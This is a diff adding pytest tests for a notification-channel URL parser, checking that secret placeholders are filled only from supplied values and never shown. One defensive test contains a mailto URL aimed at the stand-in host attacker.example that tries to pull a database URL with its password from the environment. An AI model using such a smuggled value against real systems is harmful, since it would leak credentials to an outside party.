@@ -128,3 +128,25 @@ def test_redact_replaces_every_url_part_but_those_kept() -> None:
     assert redact(message, url, keep={"smtp.example.org", "alice"}) == (
         "login **** refused by smtp.example.org for alice (key ****)"
     )
+
+
+def test_placeholders_are_filled_from_the_given_secrets_only() -> None:
+    written = "mailtos://alerts%40example.org:${SMTP_PASS}@smtp.example.org:587?to=team@example.org"
+    channel = parse_channel(written, placeholders={"SMTP_PASS": "p@ss/w0rd&x=1"})
+    assert channel.url == written  # what is stored keeps the placeholder
+    assert channel.target_url == (
+        "mailtos://alerts%40example.org:p%40ss%2Fw0rd%26x%3D1@smtp.example.org:587"
+        "?to=team@example.org"
+    )
+    assert "w0rd" not in channel.display and "w0rd" not in repr(channel)
+    with pytest.raises(InvalidChannel, match=r"no value for \$\{SMTP_PASS\}"):
+        parse_channel(written)
+    with pytest.raises(InvalidChannel, match=r"no value for \$\{SMTP_PASS\}"):
+        parse_channel(written, placeholders={"OTHER": "x"})
+
+
+def test_the_environment_is_not_a_source_of_placeholders(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MIMIR_DATABASE_URL", "postgresql://mimir:dbpass@db/mimir")
+    with pytest.raises(InvalidChannel, match="MIMIR_DATABASE_URL") as caught:
+        parse_channel("mailto://attacker.example?to=x@attacker.example&from=${MIMIR_DATABASE_URL}")
+    assert "dbpass" not in caught.value.message
